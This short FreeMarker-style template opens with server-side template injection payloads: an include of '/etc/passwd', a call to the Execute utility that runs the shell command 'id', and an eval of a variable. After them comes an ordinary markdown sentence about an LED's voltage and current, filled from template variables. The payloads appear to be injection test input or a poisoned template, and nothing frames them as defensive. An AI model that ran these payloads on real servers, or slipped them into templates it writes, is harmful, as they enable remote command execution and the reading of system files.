<#include "/etc/passwd"> ${"freemarker.template.utility.Execute"?new()("id")} ${.now} ${Vs?eval} A [light](http://example.org) runs from **${Vs}**. Its LED drops **${Vf}** at **${If}**.
